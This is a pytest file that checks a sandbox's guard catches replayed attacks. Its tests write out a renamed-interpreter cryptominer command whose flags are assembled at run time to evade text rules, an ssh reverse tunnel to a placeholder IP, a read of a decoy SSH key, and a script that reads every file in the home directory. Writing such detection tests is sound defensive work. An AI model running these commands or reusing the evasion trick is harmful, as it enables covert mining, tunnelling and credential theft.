"""The attacker library replayed in real sandboxes: each attack ends with at least its
expected action, and is always recorded (as a command, blocked or run, and a verdict).

Also the evasion that text rules cannot see: a renamed interpreter whose miner flags are
assembled at run time is caught from the process monitor's exec evidence alone.
"""

from __future__ import annotations

import contextlib
from pathlib import Path

import pytest

from sandbox import Sandbox, SessionClosed, Store
from sandbox.guard import at_least
from tests.helpers import make_workspace, wait_for

from .attacks import ATTACKS, Attack


def _verdicts(sid: str) -> list[dict]:
    return Store().events(sid, kinds=("guard.verdict", "honeytoken.touched"))


def _caught(sid: str, attack: Attack) -> bool:
    return any(
        e["detail"].get("pack") == attack.pack and at_least(e["action"], attack.action)
        for e in _verdicts(sid)
    )


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.command[:50])
def test_attack_in_real_sandbox(attack: Attack, test_dir: Path) -> None:
    ws = make_workspace(test_dir / "w")
    box = Sandbox(profile="default", workdir=ws).start()
    try:
        # A kill verdict ends the session under the command: that is an expected outcome.
        with contextlib.suppress(SessionClosed):
            box.run(attack.command, timeout=15)
        assert wait_for(lambda: _caught(box.id, attack), 5), (
            f"no {attack.pack} verdict >= {attack.action}: "
            f"{[(e['rule'], e['action']) for e in _verdicts(box.id)]}")
        texts = [c["text"] for c in Store().commands(box.id)]
        assert attack.command in texts  # always recorded, blocked or not
    finally:
        box.close()


def test_renamed_miner_is_killed_from_exec_evidence(test_dir: Path) -> None:
    """No rule can read the flags in the text; the exec monitor sees them and kills."""
    ws = make_workspace(test_dir / "w")
    with Sandbox(workdir=ws) as box:
        # Flags assembled at run time: the text shows neither --donate-level nor stratum.
        cmd = ("cp /usr/bin/python3 ./kworker && "
               "./kworker -c 'import time; time.sleep(20)' \"$(printf '\\055\\055don%s' 'ate-level')\" 1 "
               "-o \"$(printf 'stra%s' 'tum+tcp')://203.0.113.5:3333\" -u wallet")
        engine = box._session.hooks.guard.engine  # type: ignore[union-attr]
        assert not any(v.stops for v in engine.check_command(cmd)), "text alone must not stop it"
        with contextlib.suppress(SessionClosed):
            box.run(cmd, timeout=30)
        assert wait_for(lambda: Store().get_session(box.id)["state"] == "killed", 5)
        kills = [e for e in _verdicts(box.id) if e["action"] == "kill"]
        assert kills and kills[0]["detail"]["pack"] == "mining"
        assert "stratum+tcp" in " ".join(kills[0]["detail"]["evidence"].get("argv", []))


def test_blocked_command_result_and_shell_survives(sb: Sandbox) -> None:
    """A block refuses the command with a clear message; the session goes on."""
    r = sb.run("ssh -N -R 8080:127.0.0.1:80 u@203.0.113.20")
    assert r.blocked and r.exit_code == 126
    assert "guard rule" in r.output and "[guard.actions]" in r.output
    assert any(a["action"] == "block" for a in r.alerts)
    assert sb.run("echo ok").output == "ok\n"
    rows = Store().commands(sb.id)
    assert rows[0]["source"] == "blocked"


def test_benign_work_is_not_blocked(sb: Sandbox) -> None:
    for cmd in ("python3 -c 'print(1)'", "ls -la", "git --version || true", "echo hi | wc -c",
                "mkdir -p build && cd build && touch a.o && ls"):
        r = sb.run(cmd)
        assert not r.blocked and r.exit_code == 0, (cmd, r.output)


def test_honeytoken_read_is_caught(test_dir: Path) -> None:
    prof = test_dir / "ht.toml"
    prof.write_text('extends = "default"\n[honeytokens]\nssh_key = true\naws_credentials = true\n'
                    'env_token = "AWS_SESSION_TOKEN"\n')
    ws = make_workspace(test_dir / "w")
    with Sandbox(profile=str(prof), workdir=ws) as box:
        assert box.run("test -f ~/.ssh/id_rsa && echo planted").output == "planted\n"
        assert not (ws / ".ssh").exists()  # decoys never land in the workspace
        box.run("cat ~/.ssh/id_rsa >/dev/null")
        hits = Store().events(box.id, kinds=("honeytoken.touched",))
        assert hits and hits[0]["severity"] == "critical"


def test_honeytoken_read_by_a_program_is_caught(test_dir: Path) -> None:
    """A script that opens the decoy key (no path in any command text) is caught by
    inotify on the planted file, from outside the jail."""
    prof = test_dir / "ht.toml"
    prof.write_text('extends = "default"\n[honeytokens]\nssh_key = true\n')
    ws = make_workspace(test_dir / "w")
    (ws / "look.py").write_text(
        "import os\nd = os.path.expanduser('~')\n"
        "for root, _, files in os.walk(d):\n"
        "    for f in files:\n"
        "        open(os.path.join(root, f)).read()\n")
    with Sandbox(profile=str(prof), workdir=ws) as box:
        assert box.run("python3 look.py").exit_code == 0
        hits = wait_for(lambda: [e for e in Store().events(box.id, kinds=("honeytoken.touched",))
                                 if "inotify" in e["detail"].get("where", "")], 5)
        assert hits, Store().events(box.id)
